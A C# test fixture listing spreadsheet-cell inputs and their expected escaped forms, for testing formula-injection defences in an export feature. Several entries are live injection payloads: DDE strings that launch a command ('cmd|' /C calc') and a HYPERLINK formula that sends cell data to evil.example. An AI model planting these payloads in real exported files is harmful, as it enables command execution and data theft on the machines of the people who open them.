namespace Portal.Core.Tests.Exports;

/// <summary>Texts that want to be formulas or to break a table, and what has to stand in the cell; and harmless ones, which stay as they are.</summary>
internal static class HostileCells
{
    public static readonly IReadOnlyList<(string Text, string Cell)> All =
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\n=1", "'\n'=1"),
        ("\tplain", "'\tplain"),
        ("\uFF1D1+1", "'\uFF1D1+1"),
        ("\"=cmd\"", "\"'=cmd\""),
        ("\"=cmd", "\"'=cmd"),
        ("\"\"=cmd", "\"\"'=cmd"),
        ("'=cmd", "'=cmd"),
        (" =1+1", " '=1+1"),
        ("\u00A0-1", "\u00A0'-1"),
        ("\u200B@x", "\u200B'@x"),
        ("\0=1", " '=1"),
        ("Max;=cmd", "Max;'=cmd"),
        ("Max,@x", "Max,'@x"),
        ("Max; \"+1\"", "Max; \"'+1\""),
        ("first line\r\n=1", "first line\r\n'=1"),
        ("first line\n-1", "first line\n'-1"),
        ("=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"),
        ("Müller-Lüdenscheidt", "Müller-Lüdenscheidt"),
        ("Łukasz Ñandú, Ève; Ωmega", "Łukasz Ñandú, Ève; Ωmega"),
        ("a = b", "a = b"),
        ("O'Neil", "O'Neil"),
        ("5 - 3", "5 - 3"),
        ("erika@example.org", "erika@example.org"),
        ("says \"good day\"", "says \"good day\""),
        ("two\nlines", "two\nlines"),
        ("", ""),
    ];

    /// <summary>Whether a spreadsheet that trims and drops quotes would run it.</summary>
    public static bool IsFormula(string cell) => cell.TrimStart(' ', '\t', '\r', '\n', '"', '\u00A0', '\u200B', '\uFEFF') is [var first, ..] && "=+-@\uFF1D\uFF0B\uFF0D\uFF20".Contains(first, StringComparison.Ordinal);
}
